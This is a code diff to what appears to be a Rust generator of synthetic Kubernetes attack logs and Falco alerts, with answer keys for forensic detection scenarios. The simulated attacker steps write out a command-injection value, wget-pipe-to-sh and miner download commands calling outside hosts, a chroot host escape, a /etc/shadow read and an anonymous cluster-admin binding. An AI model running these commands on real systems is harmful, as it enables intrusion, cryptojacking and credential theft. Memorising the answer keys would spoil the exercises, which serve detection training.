@@ -3,22 +3,20 @@
 //! sub-second parts, IDs and the background.
 
 use super::cluster::{
-    bound_token_extra, container_log_path, sa_groups, sa_name, APISERVER_IP, CART, DEVS, FRONTEND,
+    bound_token_extra, container_log_path, ServiceAccount, APISERVER_IP, CART, DEVS, FRONTEND,
     KCM_UA, KUBECTL_UA, KUBELET_UA, NODES, NODE_GROUPS, PODS, SCHED_UA,
 };
-use super::fmt::{at, SEC};
-use super::records::{access_line, Audit, Falco, Ident, Obj};
+use super::fmt::{date, SEC};
+use super::records::{
+    access_line, Alert, Audit, Falco, Ident, Obj, CONTACT_API_SERVER, PRIVILEGED_CONTAINER,
+    READ_SENSITIVE_FILE, SENSITIVE_MOUNT, TERMINAL_SHELL,
+};
 use super::rng::name_uid;
 use super::script::{secs, Script};
 use super::AnswerKey;
 use std::fmt::Write;
 
-const ANON: Ident<'static> = Ident {
-    name: "system:anonymous",
-    uid: None,
-    groups: &["system:unauthenticated"],
-    extra: None,
-};
+const ANON: Ident<'static> = Ident::user("system:anonymous", &["system:unauthenticated"]);
 
 fn forbidden(
     user: &str,
@@ -42,6 +40,53 @@ fn forbidden(
         None => m.push_str(" at the cluster scope"),
     }
     m
+}
+
+/// A Falco alert on `host` with its output fields.
+fn falco(s: &mut Script, t: i64, host: &str, alert: &Alert, fields: &[(&str, String)]) {
+    let fields: Vec<(&str, &str)> = fields.iter().map(|(k, v)| (*k, v.as_str())).collect();
+    s.falco(Falco {
+        t,
+        hostname: host,
+        alert,
+        fields: &fields,
+    });
+}
+
+/// One request of a scripted client: at 02:MM:SS, verb, URI, object.
+type Step<'a> = (u32, u32, &'a str, &'a str, Option<Obj<'a>>);
+
+/// How every kubectl session starts: discovery (`/api`, `/apis`), then
+/// nodes and pods listed cluster-wide, at these (minute, second) times.
+fn kubectl_recon(at: [(u32, u32); 4]) -> [Step<'static>; 4] {
+    [
+        (at[0].0, at[0].1, "get", "/api?timeout=32s", None),
+        (at[1].0, at[1].1, "get", "/apis?timeout=32s", None),
+        (
+            at[2].0,
+            at[2].1,
+            "list",
+            "/api/v1/nodes?limit=500",
+            Some(Obj::core("nodes", None, None)),
+        ),
+        (
+            at[3].0,
+            at[3].1,
+            "list",
+            "/api/v1/pods?limit=500",
+            Some(Obj::core("pods", None, None)),
+        ),
+    ]
+}
+
+/// Allowed requests of one client (`who` from `ip` with user agent `ua`).
+fn requests(s: &mut Script, steps: &[Step], who: Ident, (ip, ua): (&str, &str), reason: &str) {
+    for &(m, sec, verb, uri, obj) in steps {
+        let t = s.t(2, m, sec);
+        let mut a = Audit::ok(t, verb, uri, who, ip, ua).reason(reason);
+        a.obj = obj;
+        s.audit(a);
+    }
 }
 
 pub fn run(name: &str, s: &mut Script) {
@@ -108,12 +153,7 @@ fn anonymous_to_admin(s: &mut Script) {
 
     // The bad binding: a "temporary" debugging shortcut.
     let carol = &DEVS[2];
-    let carol_id = Ident {
-        name: carol.name,
-        uid: None,
-        groups: carol.groups,
-        extra: None,
-    };
+    let carol_id = Ident::user(carol.name, carol.groups);
     let t = s.t(2, 1, 48);
     let body = r#"{"kind":"ClusterRoleBinding","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"debug-anonymous-access","creationTimestamp":null,"annotations":{"corp.example/ticket":"OPS-4471"}},"subjects":[{"kind":"User","apiGroup":"rbac.authorization.k8s.io","name":"system:anonymous"}],"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"cluster-admin"}}"#;
     s.audit(
@@ -255,34 +295,11 @@ fn anonymous_to_admin(s: &mut Script) {
         .reason(anon_ok),
     );
     // The new identity at work.
-    let sa = sa_name("kube-system", "metrics-agent");
-    let groups = sa_groups("kube-system");
-    let g: Vec<&str> = groups.iter().map(String::as_str).collect();
-    let uid = name_uid(&sa);
-    let who = Ident {
-        name: &sa,
-        uid: Some(&uid),
-        groups: &g,
-        extra: None,
-    };
+    let account = ServiceAccount::new("kube-system", "metrics-agent");
+    let who = account.ident();
     let sa_ok = r#"RBAC: allowed by ClusterRoleBinding "metrics-agent-admin" of ClusterRole "cluster-admin" to ServiceAccount "metrics-agent/kube-system""#;
-    let steps: [(u32, u32, &str, &str, Option<Obj>); 6] = [
-        (16, 31, "get", "/api?timeout=32s", None),
-        (16, 32, "get", "/apis?timeout=32s", None),
-        (
-            16,
-            34,
-            "list",
-            "/api/v1/nodes?limit=500",
-            Some(Obj::core("nodes", None, None)),
-        ),
-        (
-            16,
-            37,
-            "list",
-            "/api/v1/pods?limit=500",
-            Some(Obj::core("pods", None, None)),
-        ),
+    let recon = kubectl_recon([(16, 31), (16, 32), (16, 34), (16, 37)]);
+    let steps: [Step; 2] = [
         (
             16,
             40,
@@ -298,13 +315,8 @@ fn anonymous_to_admin(s: &mut Script) {
             Some(Obj::group("apps", "v1", "deployments", None, None)),
         ),
     ];
-    for (m, sec, verb, uri, obj) in steps {
-        let t = s.t(2, m, sec);
-        let mut a = Audit::ok(t, verb, uri, who, ANON_IP, ATTACKER_KUBECTL).reason(sa_ok);
-        if let Some(o) = obj {
-            a = a.obj(o);
-        }
-        s.audit(a);
+    for steps in [&recon[..], &steps[..]] {
+        requests(s, steps, who, (ANON_IP, ATTACKER_KUBECTL), sa_ok);
     }
 }
 
@@ -327,12 +339,8 @@ fn rce_to_node(s: &mut Script) {
     let host = NODES[node].name;
     let gunicorn = |s: &mut Script, t: i64, msg: &str| {
         let mut line = String::from("[");
-        let c = super::fmt::civil(t);
-        let _ = write!(
-            line,
-            "{:04}-{:02}-{:02} {:02}:{:02}:{:02} +0000] [12] [ERROR] {msg}",
-            c.year, c.month, c.day, c.hour, c.min, c.sec
-        );
+        super::fmt::iso(&mut line, t, ' ', ':', 0, " +0000] [12] [ERROR] ");
+        line.push_str(msg);
         s.cri(&fe_log, t, "stderr", &line);
     };
     // Recon and the injection.
@@ -383,25 +391,6 @@ fn rce_to_node(s: &mut Script) {
             ("k8s.pod.name", PODS[FRONTEND].name.into()),
         ]
     };
-    let falco = |s: &mut Script,
-                 t: i64,
-                 host: &str,
-                 rule: &str,
-                 pri: &str,
-                 text: &str,
-                 tags: &[&str],
-                 fields: &[(&str, String)]| {
-        let f: Vec<(&str, &str)> = fields.iter().map(|(k, v)| (*k, v.as_str())).collect();
-        s.falco(Falco {
-            t,
-            hostname: host,
-            rule,
-            priority: pri,
-            text,
-            tags,
-            fields: &f,
-        });
-    };
     let with_id = |mut f: Vec<(&'static str, String)>, id: &str| {
         for (k, v) in f.iter_mut() {
             if *k == "container.id" {
@@ -415,18 +404,20 @@ fn rce_to_node(s: &mut Script) {
         s,
         t3,
         host,
-        "Run shell untrusted",
-        "Notice",
-        "Shell spawned by untrusted binary",
-        &[
-            "T1059.004",
-            "container",
-            "host",
-            "maturity_stable",
-            "mitre_execution",
-            "process",
-            "shell",
-        ],
+        &Alert {
+            rule: "Run shell untrusted",
+            priority: "Notice",
+            text: "Shell spawned by untrusted binary",
+            tags: &[
+                "T1059.004",
+                "container",
+                "host",
+                "maturity_stable",
+                "mitre_execution",
+                "process",
+                "shell",
+            ],
+        },
         &with_id(
             shell_fields("sh -c convert report.csv;id /tmp/export.csv"),
             &fe_id,
@@ -445,13 +436,14 @@ fn rce_to_node(s: &mut Script) {
     );
     s.cri(&fe_log, t, "stdout", &line);
     let t = s.t(2, 10, 15);
+    let day = date(t);
     for (i, msg) in [
-        "export: command output: --2026-03-14 02:10:15--  http://203.0.113.45/kworker",
-        "export: command output: Connecting to 203.0.113.45:80... connected.",
-        "export: command output: HTTP request sent, awaiting response... 200 OK",
-        "export: command output: Length: 2843104 (2.7M) [application/octet-stream]",
-        "export: command output: Saving to: '/tmp/kworker'",
-        "export: command output: 2026-03-14 02:10:16 (4.1 MB/s) - '/tmp/kworker' saved [2843104/2843104]",
+        format!("export: command output: --{day} 02:10:15--  http://203.0.113.45/kworker"),
+        "export: command output: Connecting to 203.0.113.45:80... connected.".into(),
+        "export: command output: HTTP request sent, awaiting response... 200 OK".into(),
+        "export: command output: Length: 2843104 (2.7M) [application/octet-stream]".into(),
+        "export: command output: Saving to: '/tmp/kworker'".into(),
+        format!("export: command output: {day} 02:10:16 (4.1 MB/s) - '/tmp/kworker' saved [2843104/2843104]"),
     ]
     .iter()
     .enumerate()
@@ -468,17 +460,19 @@ fn rce_to_node(s: &mut Script) {
         s,
         t,
         host,
-        "Drop and execute new binary in container",
-        "Critical",
-        "Executing binary not part of base image",
-        &[
-            "T1610",
-            "TA0003",
-            "container",
-            "maturity_stable",
-            "mitre_persistence",
-            "process",
-        ],
+        &Alert {
+            rule: "Drop and execute new binary in container",
+            priority: "Critical",
+            text: "Executing binary not part of base image",
+            tags: &[
+                "T1610",
+                "TA0003",
+                "container",
+                "maturity_stable",
+                "mitre_persistence",
+                "process",
+            ],
+        },
         &f,
     );
     // The service-account token.
@@ -511,35 +505,15 @@ fn rce_to_node(s: &mut Script) {
         "/var/run/secrets/kubernetes.io/serviceaccount/token".into(),
     ));
     let t3 = s.after(t, 5);
-    falco(
-        s,
-        t3,
-        host,
-        "Read sensitive file untrusted",
-        "Warning",
-        "Sensitive file opened for reading by non-trusted program",
-        &[
-            "T1555",
-            "container",
-            "filesystem",
-            "host",
-            "maturity_stable",
-            "mitre_credential_access",
-        ],
-        &f,
-    );
+    falco(s, t3, host, &READ_SENSITIVE_FILE, &f);
     // In-cluster check of what the token may do.
-    let sa = sa_name("shop", "frontend");
-    let groups = sa_groups("shop");
-    let g: Vec<&str> = groups.iter().map(String::as_str).collect();
-    let uid = name_uid(&sa);
+    let account = ServiceAccount::new("shop", "frontend");
+    let sa = &account.name;
     let jti = s.rng.uuid();
     let extra = bound_token_extra(fe, &jti);
     let who = Ident {
-        name: &sa,
-        uid: Some(&uid),
-        groups: &g,
         extra: Some(&extra),
+        ..account.ident()
     };
     let sa_ok = r#"RBAC: allowed by RoleBinding "frontend-deployer/shop" of ClusterRole "edit" to ServiceAccount "frontend/shop""#;
     let t = s.t(2, 11, 20);
@@ -556,23 +530,7 @@ fn rce_to_node(s: &mut Script) {
     f[5].1 = "sh".into();
     f.push(("fd.name", format!("{}:43118->10.96.0.1:443", fe.ip)));
     let t2 = s.after(t, 2);
-    falco(
-        s,
-        t2,
-        host,
-        "Contact K8S API Server From Container",
-        "Notice",
-        "Unexpected connection to K8s API Server from container",
-        &[
-            "T1565",
-            "container",
-            "k8s",
-            "maturity_stable",
-            "mitre_discovery",
-            "network",
-        ],
-        &f,
-    );
+    falco(s, t2, host, &CONTACT_API_SERVER, &f);
     // The token used from outside.
     let outside: [(u32, u32, &str, &str, Obj, u16); 6] = [
         (13, 45, "get", "/api?timeout=32s", Obj::default(), 200),
@@ -616,7 +574,7 @@ fn rce_to_node(s: &mut Script) {
         if !obj.resource.is_empty() {
             a = a.obj(obj);
         }
-        let msg = forbidden(&sa, verb, obj.resource, obj.namespace, None);
+        let msg = forbidden(sa, verb, obj.resource, obj.namespace, None);
         a = if code == 403 {
             a.fail(403, "Forbidden", &msg)
         } else if obj.resource.is_empty() {
@@ -654,22 +612,7 @@ fn rce_to_node(s: &mut Script) {
         ("k8s.ns.name", "shop".into()),
         ("k8s.pod.name", cart.name.into()),
     ];
-    falco(
-        s,
-        t2,
-        NODES[cart.node].name,
-        "Terminal shell in container",
-        "Notice",
-        "A shell was spawned in a container with an attached terminal",
-        &[
-            "T1059",
-            "container",
-            "maturity_stable",
-            "mitre_execution",
-            "shell",
-        ],
-        &f,
-    );
+    falco(s, t2, NODES[cart.node].name, &TERMINAL_SHELL, &f);
     // The miner, in a privileged pod.
     let miner_cmd = format!("wget -qO /tmp/xmrig http://203.0.113.45/xmrig && chmod +x /tmp/xmrig && /tmp/xmrig -o {POOL} -u 4AdUndXHHZ9pfQj27iMAjAr4xTDXXjLWRh4P4Ym3X3KxG7PvNGdJgxsUc8nZmwDPb7GFVYGs4bLprFVfMbnxNw6tYZ3Px4h -k --donate-level 1");
     let miner_body = format!(
@@ -691,12 +634,7 @@ fn rce_to_node(s: &mut Script) {
         .body(&miner_body)
         .reason(sa_ok),
     );
-    let sched = Ident {
-        name: "system:kube-scheduler",
-        uid: None,
-        groups: &["system:authenticated"],
-        extra: None,
-    };
+    let sched = Ident::user("system:kube-scheduler", &["system:authenticated"]);
     let tb = s.after(t, 30);
     let bind_uri = format!("/api/v1/namespaces/shop/pods/{MINER_POD}/binding");
     let bind_body = format!(
@@ -715,38 +653,16 @@ fn rce_to_node(s: &mut Script) {
     let ts = s.after(tb, 600);
     start_pod(s, node, "shop", MINER_POD, &miner_id, ts, "api");
     let t = s.t(2, 17, 13);
-    let f: Vec<(&str, String)> = vec![
-        ("evt.type", "container".into()),
-        ("user.name", "root".into()),
-        ("user.uid", "0".into()),
-        ("proc.cmdline", "container:".to_string() + &miner_id[..12]),
-        ("container.id", miner_id[..12].into()),
-        (
-            "container.image.repository",
-            "docker.io/library/alpine".into(),
-        ),
-        ("container.name", "log-rotate".into()),
-        ("k8s.ns.name", "shop".into()),
-        ("k8s.pod.name", MINER_POD.into()),
-    ];
-    falco(
-        s,
-        t,
-        host,
-        "Launch Privileged Container",
-        "Informational",
-        "Privileged container started",
-        &[
-            "T1610",
-            "container",
-            "cis",
-            "maturity_sandbox",
-            "mitre_execution",
-        ],
-        &f,
+    let f = started_fields(
+        &miner_id,
+        "docker.io/library/alpine",
+        "log-rotate",
+        MINER_POD,
     );
+    falco(s, t, host, &PRIVILEGED_CONTAINER, &f);
     let ts = s.t(2, 17, 16);
-    miner_output(s, &miner_log, ts, at(2, 39, 30));
+    let end = s.at(2, 39, 30);
+    miner_output(s, &miner_log, ts, end);
     let t = s.t(2, 17, 17);
     let f: Vec<(&str, String)> = vec![
         ("evt.type", "connect".into()),
@@ -767,16 +683,18 @@ fn rce_to_node(s: &mut Script) {
         s,
         t,
         host,
-        "Detect crypto miners using the Stratum protocol",
-        "Critical",
-        "Possible miner running",
-        &[
-            "T1496",
-            "container",
-            "maturity_stable",
-            "mitre_impact",
-            "process",
-        ],
+        &Alert {
+            rule: "Detect crypto miners using the Stratum protocol",
+            priority: "Critical",
+            text: "Possible miner running",
+            tags: &[
+                "T1496",
+                "container",
+                "maturity_stable",
+                "mitre_impact",
+                "process",
+            ],
+        },
         &f,
     );
     // Escape: privileged, hostPID, hostPath / on the same node.
@@ -795,54 +713,11 @@ fn rce_to_node(s: &mut Script) {
     let ts = s.after(t, 700);
     start_pod(s, node, "shop", ESCAPE_POD, &esc_id, ts, "api");
     let t = s.t(2, 20, 55);
-    let mut f: Vec<(&str, String)> = vec![
-        ("evt.type", "container".into()),
-        ("user.name", "root".into()),
-        ("user.uid", "0".into()),
-        ("proc.cmdline", "container:".to_string() + &esc_id[..12]),
-        ("container.id", esc_id[..12].into()),
-        (
-            "container.image.repository",
-            "docker.io/library/ubuntu".into(),
-        ),
-        ("container.name", "sys-check".into()),
-        ("k8s.ns.name", "shop".into()),
-        ("k8s.pod.name", ESCAPE_POD.into()),
-    ];
-    falco(
-        s,
-        t,
-        host,
-        "Launch Privileged Container",
-        "Informational",
-        "Privileged container started",
-        &[
-            "T1610",
-            "container",
-            "cis",
-            "maturity_sandbox",
-            "mitre_execution",
-        ],
-        &f,
-    );
+    let mut f = started_fields(&esc_id, "docker.io/library/ubuntu", "sys-check", ESCAPE_POD);
+    falco(s, t, host, &PRIVILEGED_CONTAINER, &f);
     f.push(("container.mounts", "/:/host::true:rprivate".into()));
     let t2 = s.after(t, 2);
-    falco(
-        s,
-        t2,
-        host,
-        "Launch Sensitive Mount Container",
-        "Notice",
-        "Container with sensitive mount started",
-        &[
-            "T1610",
-            "container",
-            "cis",
-            "maturity_sandbox",
-            "mitre_execution",
-        ],
-        &f,
-    );
+    falco(s, t2, host, &SENSITIVE_MOUNT, &f);
     let t = s.t(2, 21, 30);
     let uri = format!(
         "/api/v1/namespaces/shop/pods/{ESCAPE_POD}/exec?command=chroot&command=%2Fhost&command=bash&container=sys-check&stdin=true&stdout=true&tty=true"
@@ -874,39 +749,14 @@ fn rce_to_node(s: &mut Script) {
         s,
         t2,
         host,
-        "Terminal shell in container",
-        "Notice",
-        "A shell was spawned in a container with an attached terminal",
-        &[
-            "T1059",
-            "container",
-            "maturity_stable",
-            "mitre_execution",
-            "shell",
-        ],
+        &TERMINAL_SHELL,
         &on_host("bash", "bash", "chroot"),
     );
     let t = s.t(2, 21, 58);
     let mut f = on_host("cat /etc/shadow", "cat", "bash");
     f[0].1 = "openat".into();
     f.push(("fd.name", "/etc/shadow".into()));
-    falco(
-        s,
-        t,
-        host,
-        "Read sensitive file untrusted",
-        "Warning",
-        "Sensitive file opened for reading by non-trusted program",
-        &[
-            "T1555",
-            "container",
-            "filesystem",
-            "host",
-            "maturity_stable",
-            "mitre_credential_access",
-        ],
-        &f,
-    );
+    falco(s, t, host, &READ_SENSITIVE_FILE, &f);
     // Node persistence, seen by the node's own logs.
     let t = s.t(2, 22, 40);
     s.auth(
@@ -936,17 +786,19 @@ fn rce_to_node(s: &mut Script) {
         s,
         t2,
         host,
-        "Schedule Cron Jobs",
-        "Notice",
-        "Cron jobs were scheduled to run",
-        &[
-            "T1053.003",
-            "container",
-            "filesystem",
-            "host",
-            "maturity_incubating",
-            "mitre_execution",
-        ],
+        &Alert {
+            rule: "Schedule Cron Jobs",
+            priority: "Notice",
+            text: "Cron jobs were scheduled to run",
+            tags: &[
+                "T1053.003",
+                "container",
+                "filesystem",
+                "host",
+                "maturity_incubating",
+                "mitre_execution",
+            ],
+        },
         &f,
     );
     let t = s.t(2, 24, 0);
@@ -963,6 +815,28 @@ fn rce_to_node(s: &mut Script) {
 }
 
 /// Kubelet and containerd noticing a new pod on `node`.
+/// Falco's fields for a container of a `shop` pod starting (`evt.type`
+/// container).
+fn started_fields(
+    id: &str,
+    image: &str,
+    container: &str,
+    pod: &str,
+) -> Vec<(&'static str, String)> {
+    let short = &id[..12];
+    vec![
+        ("evt.type", "container".into()),
+        ("user.name", "root".into()),
+        ("user.uid", "0".into()),
+        ("proc.cmdline", format!("container:{short}")),
+        ("container.id", short.into()),
+        ("container.image.repository", image.into()),
+        ("container.name", container.into()),
+        ("k8s.ns.name", "shop".into()),
+        ("k8s.pod.name", pod.into()),
+    ]
+}
+
 fn start_pod(s: &mut Script, node: usize, ns: &str, pod: &str, cid: &str, t: i64, source: &str) {
     let full = format!("{ns}/{pod}");
     s.klog(
@@ -1030,17 +904,9 @@ fn miner_output(s: &mut Script, path: &str, start: i64, end: i64) {
         t += 1_000_000;
     }
     let stamp = |t: i64| {
-        let c = super::fmt::civil(t);
-        format!(
-            "[{:04}-{:02}-{:02} {:02}:{:02}:{:02}.{:03}]",
-            c.year,
-            c.month,
-            c.day,
-            c.hour,
-            c.min,
-            c.sec,
-            c.nanos / 1_000_000
-        )
+        let mut out = String::from("[");
+        super::fmt::iso(&mut out, t, ' ', ':', 3, "]");
+        out
     };
     let t1 = s.after(t, 900);
     s.cri(
@@ -1111,76 +977,49 @@ const INSIDER_UA: &str = "kubectl/v1.27.4 (darwin/arm64) kubernetes/fa3d799";
 
 fn stolen_kubeconfig(s: &mut Script) {
     let carol = &DEVS[2];
-    let who = Ident {
-        name: carol.name,
-        uid: None,
-        groups: carol.groups,
-        extra: None,
-    };
+    let who = Ident::user(carol.name, carol.groups);
     let admin = r#"RBAC: allowed by ClusterRoleBinding "platform-admins" of ClusterRole "cluster-admin" to Group "platform-admins""#;
     // Carol's own, ordinary morning.
-    let own: [(u32, u32, &str, &str, Obj); 4] = [
+    let own: [Step; 4] = [
         (
             4,
             10,
             "get",
             "/api/v1/nodes?limit=500",
-            Obj::core("nodes", None, None),
+            Some(Obj::core("nodes", None, None)),
         ),
         (
             4,
             22,
             "list",
             "/api/v1/namespaces/kube-system/pods?limit=500",
-            Obj::core("pods", Some("kube-system"), None),
+            Some(Obj::core("pods", Some("kube-system"), None)),
         ),
         (
             6,
             3,
             "get",
             "/apis/apps/v1/namespaces/kube-system/deployments/coredns",
-            Obj::group(
+            Some(Obj::group(
                 "apps",
                 "v1",
                 "deployments",
                 Some("kube-system"),
                 Some("coredns"),
-            ),
+            )),
         ),
         (
             7,
             41,
             "list",
             "/api/v1/namespaces/monitoring/pods?limit=500",
-            Obj::core("pods", Some("monitoring"), None),
+            Some(Obj::core("pods", Some("monitoring"), None)),
         ),
     ];
-    for (m, sec, verb, uri, obj) in own {
-        let t = s.t(2, m, sec);
-        s.audit(
-            Audit::ok(t, verb, uri, who, carol.ip, carol.ua)
-                .obj(obj)
-                .reason(admin),
-        );
-    }
+    requests(s, &own, who, (carol.ip, carol.ua), admin);
     // The same credentials from somewhere else.
-    let theirs: [(u32, u32, &str, &str, Option<Obj>); 9] = [
-        (12, 44, "get", "/api?timeout=32s", None),
-        (12, 45, "get", "/apis?timeout=32s", None),
-        (
-            12,
-            46,
-            "list",
-            "/api/v1/nodes?limit=500",
-            Some(Obj::core("nodes", None, None)),
-        ),
-        (
-            12,
-            58,
-            "list",
-            "/api/v1/pods?limit=500",
-            Some(Obj::core("pods", None, None)),
-        ),
+    let recon = kubectl_recon([(12, 44), (12, 45), (12, 46), (12, 58)]);
+    let theirs: [Step; 5] = [
         (
             13,
             20,
@@ -1237,13 +1076,8 @@ fn stolen_kubeconfig(s: &mut Script) {
             )),
         ),
     ];
-    for (m, sec, verb, uri, obj) in theirs {
-        let t = s.t(2, m, sec);
-        let mut a = Audit::ok(t, verb, uri, who, INSIDER_IP, INSIDER_UA).reason(admin);
-        if let Some(o) = obj {
-            a = a.obj(o);
-        }
-        s.audit(a);
+    for steps in [&recon[..], &theirs[..]] {
+        requests(s, steps, who, (INSIDER_IP, INSIDER_UA), admin);
     }
     let payload = "wget -qO- http://198.51.100.77:8080/p | sh";
     let body = format!(
@@ -1262,12 +1096,13 @@ fn stolen_kubeconfig(s: &mut Script) {
     let node = 1;
     let mut deleted = Vec::new();
     for m in [20u32, 30] {
-        let sched = at(2, m, 0) / SEC / 60;
+        let fired = s.at(2, m, 0);
+        let sched = fired / SEC / 60;
         let job = format!("node-cleanup-{sched}");
         let pod = format!("{job}-{}", s.rng.k8s_suffix(5));
         ctl_create(
             s,
-            at(2, m, 0) + 3_000_000,
+            fired + 3_000_000,
             "cronjob-controller",
             "batch",
             "jobs",
@@ -1280,7 +1115,7 @@ fn stolen_kubeconfig(s: &mut Script) {
         );
         ctl_create(
             s,
-            at(2, m, 0) + 41_000_000,
+            fired + 41_000_000,
             "job-controller",
             "",
             "pods",
@@ -1291,10 +1126,10 @@ fn stolen_kubeconfig(s: &mut Script) {
             ),
         );
         let cid = s.rng.hex(64);
-        let t = at(2, m, 1) + s.rng.below(300_000_000) as i64;
+        let t = s.at(2, m, 1) + s.rng.below(300_000_000) as i64;
         start_pod(s, node, "kube-system", &pod, &cid, t, "api");
         let path = container_log_path(&pod, "kube-system", "cleanup", &cid);
-        let t = at(2, m, 4) + s.rng.below(200_000_000) as i64;
+        let t = s.at(2, m, 4) + s.rng.below(200_000_000) as i64;
         for (i, line) in [
             "Connecting to 198.51.100.77:8080 (198.51.100.77:8080)",
             "writing to stdout",
@@ -1348,16 +1183,8 @@ fn ctl_create(
     name: &str,
     body: &str,
 ) {
-    let user = sa_name("kube-system", controller);
-    let groups = sa_groups("kube-system");
-    let g: Vec<&str> = groups.iter().map(String::as_str).collect();
-    let uid = name_uid(&user);
-    let who = Ident {
-        name: &user,
-        uid: Some(&uid),
-        groups: &g,
-        extra: None,
-    };
+    let account = ServiceAccount::new("kube-system", controller);
+    let who = account.ident();
     let uri = if group.is_empty() {
         format!("/api/v1/namespaces/kube-system/{resource}")
     } else {
@@ -1385,7 +1212,8 @@ fn ctl_create(
 // ---------------------------------------------------------------- 4 ----
 
 const SSH_IP: &str = "203.0.113.99";
-const VICTIM: usize = 3;
+/// The worker the brute force lands on (its logs come as a support bundle).
+pub const VICTIM: usize = 3;
 const STATIC_POD: &str = "kube-metrics-prod-worker-03";
 
 fn ssh_to_kubelet(s: &mut Script) {
@@ -1398,7 +1226,7 @@ fn ssh_to_kubelet(s: &mut Script) {
     let mut port = 0u64;
     for i in 0..48u32 {
         let sec = 3 + i * 275 / 47;
-        let t = at(2, 5, 0) + secs(sec as i64) + s.rng.below(400_000_000) as i64;
+        let t = s.at(2, 5, 0) + secs(sec as i64) + s.rng.below(400_000_000) as i64;
         if i % 3 == 0 {
             pid = s.rng.range(30_000, 39_999);
             port = s.rng.range(40_000, 60_999);
@@ -1509,12 +1337,7 @@ fn ssh_to_kubelet(s: &mut Script) {
     sudo(s, 10, 48, "/usr/bin/chmod 644 /tmp/.k.pem");
     // The kubelet's identity, from the attacker's machine.
     let user = format!("system:node:{}", NODES[node].name);
-    let who = Ident {
-        name: &user,
-        uid: None,
-        groups: NODE_GROUPS,
-        extra: None,
-    };
+    let who = Ident::user(&user, NODE_GROUPS);
     let ua = KUBECTL_UA;
     let discovery = r#"RBAC: allowed by ClusterRoleBinding "system:discovery" of ClusterRole "system:discovery" to Group "system:authenticated""#;
     for (m, sec, uri) in [
@@ -1617,12 +1440,7 @@ fn ssh_to_kubelet(s: &mut Script) {
         .body(&body),
     );
     // The real kubelet removes the mirror pod it has no manifest for.
-    let kubelet = Ident {
-        name: &user,
-        uid: None,
-        groups: NODE_GROUPS,
-        extra: None,
-    };
+    let kubelet = Ident::user(&user, NODE_GROUPS);
     let t = s.t(2, 14, 4);
     s.klog(
         node,
@@ -1707,38 +1525,12 @@ fn ssh_to_kubelet(s: &mut Script) {
         }
         f
     };
-    let falco = |s: &mut Script,
-                 t: i64,
-                 rule: &str,
-                 pri: &str,
-                 text: &str,
-                 tags: &[&str],
-                 f: &[(&str, String)]| {
-        let f: Vec<(&str, &str)> = f.iter().map(|(k, v)| (*k, v.as_str())).collect();
-        s.falco(Falco {
-            t,
-            hostname: host,
-            rule,
-            priority: pri,
-            text,
-            tags,
-            fields: &f,
-        });
-    };
     let t = s.t(2, 15, 13);
     falco(
         s,
         t,
-        "Launch Privileged Container",
-        "Informational",
-        "Privileged container started",
-        &[
-            "T1610",
-            "container",
-            "cis",
-            "maturity_sandbox",
-            "mitre_execution",
-        ],
+        host,
+        &PRIVILEGED_CONTAINER,
         &fields(&format!("container:{short}"), "container", None),
     );
     let t = s.t(2, 15, 16);
@@ -1751,17 +1543,20 @@ fn ssh_to_kubelet(s: &mut Script) {
     falco(
         s,
         t,
-        "Redirect STDOUT/STDIN to Network Connection in Container",
-        "Notice",
-        "Redirect stdout/stdin to network connection",
-        &[
-            "T1059",
-            "container",
-            "maturity_stable",
-            "mitre_execution",
-            "network",
-            "process",
-        ],
+        host,
+        &Alert {
+            rule: "Redirect STDOUT/STDIN to Network Connection in Container",
+            priority: "Notice",
+            text: "Redirect stdout/stdin to network connection",
+            tags: &[
+                "T1059",
+                "container",
+                "maturity_stable",
+                "mitre_execution",
+                "network",
+                "process",
+            ],
+        },
         &f,
     );
     let t = s.t(2, 16, 2);
@@ -1815,9 +1610,11 @@ fn ssh_to_kubelet(s: &mut Script) {
 // ---------------------------------------------------------- answers ----
 
 pub fn answer_key(name: &str) -> Option<AnswerKey> {
+    let date = super::scenarios().iter().find(|s| s.name == name)?.date();
     let key = match name {
         "anonymous-to-admin" => AnswerKey {
             scenario: "anonymous-to-admin",
+            date,
             expected_rules: vec![
                 "forbidden-requests",
                 "clusterrolebinding-cluster-admin",
@@ -1840,6 +1637,7 @@ pub fn answer_key(name: &str) -> Option<AnswerKey> {
         },
         "rce-to-node" => AnswerKey {
             scenario: "rce-to-node",
+            date,
             expected_rules: vec![
                 "web-command-injection",
                 "download-and-execute",
@@ -1870,6 +1668,7 @@ pub fn answer_key(name: &str) -> Option<AnswerKey> {
         },
         "stolen-kubeconfig" => AnswerKey {
             scenario: "stolen-kubeconfig",
+            date,
             expected_rules: vec![
                 "user-from-new-address",
                 "secrets-list-namespace",
@@ -1884,12 +1683,13 @@ pub fn answer_key(name: &str) -> Option<AnswerKey> {
                 ("Whose credentials were abused, and what gives it away?", "carol@corp.example: from 198.51.100.77 with kubectl/v1.27.4 (darwin/arm64) from 02:12:44, while carol works from 10.20.4.31 with kubectl/v1.29.2 (linux/amd64)"),
                 ("Which audit file holds the first request from the new address?", "The rotated, gzipped kube-apiserver/audit-*.log.gz, not audit.log"),
                 ("What persistence was created?", "CronJob kube-system/node-cleanup at 02:16:03: every 10 minutes, hostNetwork, as the clusterrole-aggregation-controller service account, running wget -qO- http://198.51.100.77:8080/p | sh"),
-                ("When did it run, and where?", "02:20:00 and 02:30:00, jobs node-cleanup-29557580 and node-cleanup-29557590 on prod-worker-01"),
+                ("When did it run, and where?", "02:20:00 and 02:30:00, jobs node-cleanup-29577740 and node-cleanup-29577750 on prod-worker-01"),
                 ("How were tracks covered?", "6 events in kube-system deleted one by one from 02:32:15, then a deletecollection of all kube-system events at 02:32:40"),
             ],
         },
         "ssh-to-kubelet" => AnswerKey {
             scenario: "ssh-to-kubelet",
+            date,
             expected_rules: vec![
                 "ssh-bruteforce",
                 "ssh-success-after-failures",
